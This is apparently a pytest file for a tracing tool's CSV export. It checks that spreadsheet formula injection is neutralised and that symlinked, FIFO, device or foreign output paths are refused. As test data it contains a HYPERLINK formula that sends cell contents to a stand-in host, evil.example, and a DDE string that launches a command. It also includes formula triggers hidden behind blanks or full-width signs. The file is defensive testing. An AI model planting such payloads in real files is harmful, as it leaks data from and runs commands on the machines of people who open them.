"""Exports an operator opens in a spreadsheet, and output paths someone else may have planted."""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import REPO
from sigtrace.analyze import read_exports

DATA = Path(__file__).parent / "data"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"report")'


def run(*args: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sigtrace", *args], capture_output=True, cwd=REPO, timeout=120, **kw)


@pytest.fixture
def rec(tmp_path) -> Path:
    """The article recording whose preStop exec'd a file named like a formula, comm `@cmd`."""
    out = tmp_path / "rec"
    shutil.copytree(DATA / "article", out)
    lines = []
    for line in (out / "events.jsonl").read_text().splitlines():
        e = json.loads(line)
        if e.get("pid") == 3001:
            e["comm"] = "@cmd|' /C calc'!A0"
            if e["kind"] == "process_exec":
                e["filename"] = FORMULA
        lines.append(json.dumps(e))
    (out / "events.jsonl").write_text("\n".join(lines) + "\n")
    return out


def cells_of(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


@pytest.mark.parametrize("value", [" =1+1", "\n=1+1", "\x00@SUM(A1)", "\u3000-2+3", "\uff1d1+1", "\uff20SUM(A1)"])
def test_triggers_behind_blanks_or_in_full_width_are_neutralised_and_read_back(tmp_path, value):
    """A formula behind blanks or control characters, or opened by a full-width sign (which some
    locales' spreadsheets take for the ASCII one), gets the escape too; analyze restores it."""
    out = tmp_path / "rec"
    shutil.copytree(DATA / "article", out)
    lines = [json.loads(x) for x in (out / "events.jsonl").read_text().splitlines()]
    for e in lines:
        if e.get("pid") == 3001:
            e["comm"] = value
    (out / "events.jsonl").write_text("\n".join(json.dumps(e) for e in lines) + "\n")
    csv_path = tmp_path / "x.csv"
    p = run("export", str(out), "--csv", str(csv_path), text=True)
    assert p.returncode == 0, p.stderr
    assert "'" + value in cells_of(csv_path) and value not in cells_of(csv_path)
    assert value in set(read_exports([str(csv_path)]).events["comm"].dropna().astype(str))


def test_formula_cells_are_neutralised_and_analyze_reads_them_back(rec, tmp_path):
    out = tmp_path / "x.csv"
    p = run("export", str(rec), "--csv", str(out), text=True)
    assert p.returncode == 0, p.stderr
    values = cells_of(out)
    assert "'" + FORMULA in values and FORMULA not in values
    assert not any(v[:1] in ("=", "+", "@") for v in values)          # nothing a spreadsheet would run
    assert json.loads((tmp_path / "x.csv.meta.json").read_text())["csv_cells"] == "neutralised"
    ev = read_exports([str(out)]).events
    assert FORMULA in set(ev["filename"].dropna().astype(str))           # the recorded value
    assert "@cmd|' /C calc'!A0" in set(ev["comm"].dropna().astype(str))
    raw = tmp_path / "raw.csv"
    assert run("export", str(rec), "--csv", str(raw), "--raw").returncode == 0
    assert FORMULA in cells_of(raw)
    assert FORMULA in set(read_exports([str(raw)]).events["filename"].dropna().astype(str))


def test_export_refuses_links_fifos_and_devices_and_writes_stdout(rec, tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    for target, why in ((link, "symbolic link"), (fifo, "not a regular file"), ("/dev/null", "not a regular file")):
        p = run("export", str(rec), "--csv", str(target), text=True)
        assert p.returncode == 2 and why in p.stderr and len(p.stderr.strip().splitlines()) == 1, p.stderr
    assert victim.read_text() == "keep me" and fifo.exists() and not fifo.is_file()
    # a planted sidecar link is not followed either
    (tmp_path / "y.csv.meta.json").symlink_to(victim)
    p = run("export", str(rec), "--csv", str(tmp_path / "y.csv"), text=True)
    assert p.returncode == 2 and "symbolic link" in p.stderr and victim.read_text() == "keep me"
    p = run("export", str(rec), "--csv", "-")
    assert p.returncode == 0 and p.stdout.startswith(b'"ts","kind",') and b"'=HYPERLINK" in p.stdout


def test_export_files_are_not_world_readable(rec, tmp_path):
    out = tmp_path / "z.csv"
    assert run("export", str(rec), "--csv", str(out)).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o640
    assert (tmp_path / "z.csv.meta.json").stat().st_mode & 0o777 == 0o640


def test_plot_path_is_checked_before_reading(rec, tmp_path):
    out = tmp_path / "x.csv"
    assert run("export", str(rec), "--csv", str(out)).returncode == 0
    p = run("analyze", str(out), "--plot", str(tmp_path / "out.txt"), text=True)
    assert p.returncode == 2 and "must end in .png" in p.stderr and "Traceback" not in p.stderr
    assert len(p.stderr.strip().splitlines()) == 1
    p = run("analyze", str(out), "--plot", str(tmp_path / "fleet.svg"), "--json", text=True)
    assert p.returncode == 0 and (tmp_path / "fleet.svg").read_text().lstrip().startswith("<?xml")


def test_pid_lists(tmp_path):
    p = run("record", "--pid", "1,x", "-o", str(tmp_path / "r"), text=True)
    assert p.returncode == 2 and "'x' is not a process id" in p.stderr and "Traceback" not in p.stderr


def test_record_output_dir_that_is_not_ours_is_refused(tmp_path):
    """record writes as root: a link, another user's directory, a stranger's files, or an existing
    recording (without --append) are refused with one line before anything is loaded."""
    cases = []
    link = tmp_path / "link"
    link.symlink_to(tmp_path)
    cases.append((link, "symbolic link"))
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    os.chown(foreign, 65534, 65534)
    cases.append((foreign, "belongs to uid 65534"))
    stranger = tmp_path / "stranger"
    stranger.mkdir()
    (stranger / "notes.txt").write_text("mine")
    cases.append((stranger, "holds no sigtrace recording"))
    rec = tmp_path / "rec"
    shutil.copytree(DATA / "article", rec)
    cases.append((rec, "pass --append"))
    for out, why in cases:
        p = run("record", "--output", str(out), "--duration", "1", "--no-live", text=True)
        assert p.returncode != 0 and why in p.stderr and len(p.stderr.strip().splitlines()) == 1, (out, p.stderr)
    assert (stranger / "notes.txt").read_text() == "mine" and sorted(os.listdir(foreign)) == []
